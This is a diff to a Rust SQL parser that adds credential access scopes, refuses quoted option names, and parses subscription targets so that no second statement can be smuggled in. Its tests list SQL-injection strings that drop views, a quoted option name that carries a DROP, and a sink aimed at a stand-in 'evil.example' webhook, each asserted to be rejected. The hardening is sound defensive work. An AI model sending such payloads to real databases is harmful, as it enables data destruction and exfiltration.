@@ -120,6 +120,71 @@ pub enum Statement {
     Transaction(&'static str),
 }
 
+/// What a statement needs of the one who sends it: the credential scopes of docs/security.md.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Access {
+    /// Reads: queries, `SHOW`, `EXPLAIN`, `SUBSCRIBE`, session statements.
+    Read,
+    /// Rows into a source: `INSERT`.
+    Write,
+    /// Changes to the catalog: `CREATE`, `DROP` (rules, sinks, silences, ...).
+    Admin,
+}
+
+impl Access {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Access::Read => "read",
+            Access::Write => "write",
+            Access::Admin => "admin",
+        }
+    }
+
+    /// Whether a credential of this scope may do what `need` names: `admin` may do everything,
+    /// `write` and `read` only their own part.
+    pub fn allows(self, need: Access) -> bool {
+        self == Access::Admin || self == need
+    }
+}
+
+impl Statement {
+    /// The scope a credential needs to run this statement.
+    pub fn access(&self) -> Access {
+        match self {
+            Statement::CreateSource { .. }
+            | Statement::CreateView { .. }
+            | Statement::CreateRule { .. }
+            | Statement::CreateSink { .. }
+            | Statement::CreateSilence { .. }
+            | Statement::Drop { .. } => Access::Admin,
+            Statement::Insert { .. } => Access::Write,
+            Statement::Show { .. }
+            | Statement::ShowAlerts
+            | Statement::ShowColumns { .. }
+            | Statement::Explain { .. }
+            | Statement::ExplainQuery { .. }
+            | Statement::Subscribe { .. }
+            | Statement::Query { .. }
+            | Statement::Set
+            | Statement::Transaction(_) => Access::Read,
+        }
+    }
+
+    /// Whether the statement only reads and answers with rows: what `COPY (...) TO STDOUT` and
+    /// a prepared statement's description may run.
+    pub fn returns_rows(&self) -> bool {
+        matches!(
+            self,
+            Statement::Show { .. }
+                | Statement::ShowAlerts
+                | Statement::ShowColumns { .. }
+                | Statement::Explain { .. }
+                | Statement::ExplainQuery { .. }
+                | Statement::Query { .. }
+        )
+    }
+}
+
 /// A statement and where it starts in the request.
 #[derive(Clone, Debug)]
 pub struct Located {
@@ -179,7 +244,14 @@ impl P<'_> {
         self.p.expect_token(&Token::LParen)?;
         loop {
             let key = match self.p.next_token().token {
-                Token::Word(w) => w.value.to_lowercase(),
+                // Option names are plain words: they are written back into the catalog log as
+                // they are, so a quoted name (which could hold any text) is refused.
+                Token::Word(w) if w.quote_style.is_none() => w.value.to_lowercase(),
+                Token::Word(w) => {
+                    return Err(self.err(format!(
+                        "Expected: an option name (a plain word), found: {w}"
+                    )))
+                }
                 other => return Err(self.err(format!("Expected: an option name, found: {other}"))),
             };
             self.p.expect_token(&Token::Eq)?;
@@ -469,6 +541,37 @@ fn convert_generic(stmt: ast::Statement) -> Result<Statement> {
 }
 
 /// Parses a request of one or more `;`-separated statements.
+/// What to follow, as `GET /v1/subscribe?q=` gives it: the name of a source, view or rule, or
+/// exactly one query (`SELECT`, `WITH`, `VALUES`, or one in parentheses). The text is parsed on
+/// its own and never pasted into a statement, so anything after the name or the query (a `;`
+/// and a second statement included) is an error with its position.
+pub fn parse_subscribe_target(text: &str) -> Result<SubscribeTarget> {
+    let dialect = PostgreSqlDialect {};
+    let parser = Parser::new(&dialect).try_with_sql(text)?;
+    let mut p = P { p: parser };
+    let query = matches!(p.word(0).as_deref(), Some("SELECT" | "WITH" | "VALUES"))
+        || p.p.peek_token().token == Token::LParen;
+    let target = if query {
+        SubscribeTarget::Query(p.p.parse_query()?)
+    } else if p.p.peek_token().token == Token::EOF {
+        return Err(
+            p.err("Expected: the name of a source, view or rule, or a SELECT; found nothing")
+        );
+    } else {
+        SubscribeTarget::Name(p.name()?)
+    };
+    // One trailing semicolon is tolerated, as in a statement; nothing may follow it.
+    let _ = p.p.consume_token(&Token::SemiColon);
+    if p.p.peek_token().token != Token::EOF {
+        let t = p.p.peek_token();
+        return Err(p.err(format!(
+            "Expected: end of the subscription (one name or one query), found: {}",
+            t.token
+        )));
+    }
+    Ok(target)
+}
+
 pub fn parse(sql: &str) -> Result<Vec<Located>> {
     let dialect = PostgreSqlDialect {};
     let parser = Parser::new(&dialect).try_with_sql(sql)?;
@@ -526,5 +629,75 @@ mod tests {
         let e = parse("SHOW RULES;\nSELECT host FROM cpu WHERE cpu > > 3").unwrap_err();
         assert_eq!(e.statement, 1);
         assert_eq!(e.line, Some(2));
+    }
+
+    #[test]
+    fn a_subscription_is_one_name_or_one_query() {
+        assert!(matches!(
+            parse_subscribe_target("cpu_1m").unwrap(),
+            SubscribeTarget::Name(n) if n == "cpu_1m"
+        ));
+        assert!(matches!(
+            parse_subscribe_target("\"Mixed Case\"").unwrap(),
+            SubscribeTarget::Name(n) if n == "Mixed Case"
+        ));
+        assert!(matches!(
+            parse_subscribe_target("SELECT host FROM cpu WHERE cpu > 90;").unwrap(),
+            SubscribeTarget::Query(_)
+        ));
+        assert!(matches!(
+            parse_subscribe_target("(SELECT 1)").unwrap(),
+            SubscribeTarget::Query(_)
+        ));
+        // Attempts to end the subscription early and run a second statement.
+        for text in [
+            "SELECT * FROM tocsin_alert_events); DROP VIEW victim; SUBSCRIBE TO (SELECT 1",
+            "victim; DROP VIEW victim",
+            "victim DROP VIEW victim",
+            "SELECT 1; DROP VIEW victim",
+            "SELECT 1; SELECT 2",
+            "(SELECT 1)); DROP VIEW victim; --",
+            "DROP VIEW victim",
+            "CREATE SINK s TO WEBHOOK WITH (url = 'http://evil.example/')",
+            "INSERT INTO cpu VALUES ('a', 1)",
+            "victim, other",
+            "public.victim",
+            "",
+            "   ",
+            "SELECT 1 /* */ ; ; SELECT 2",
+        ] {
+            assert!(
+                parse_subscribe_target(text).is_err(),
+                "{text:?} must not be accepted"
+            );
+        }
+    }
+
+    #[test]
+    fn option_names_are_plain_words() {
+        let e =
+            parse("CREATE SINK s TO LOG WITH (\"x = '1'); DROP VIEW v; --\" = 'y')").unwrap_err();
+        assert!(e.message.contains("option name"), "{}", e.message);
+    }
+
+    #[test]
+    fn statements_name_the_scope_they_need() {
+        let scopes: Vec<Access> = parse(
+            "SELECT 1; SHOW RULES; EXPLAIN RULE r; SUBSCRIBE TO v; SET x = 1; BEGIN;
+             INSERT INTO cpu VALUES ('a', 1);
+             CREATE VIEW v AS SELECT 1; DROP RULE r; CREATE SILENCE s WITH (matchers = 'a=b', until = '1h')",
+        )
+        .unwrap()
+        .iter()
+        .map(|l| l.statement.access())
+        .collect();
+        use Access::*;
+        assert_eq!(
+            scopes,
+            [Read, Read, Read, Read, Read, Read, Write, Admin, Admin, Admin]
+        );
+        assert!(Admin.allows(Write) && Admin.allows(Read) && Admin.allows(Admin));
+        assert!(Write.allows(Write) && !Write.allows(Read) && !Write.allows(Admin));
+        assert!(Read.allows(Read) && !Read.allows(Write) && !Read.allows(Admin));
     }
 }
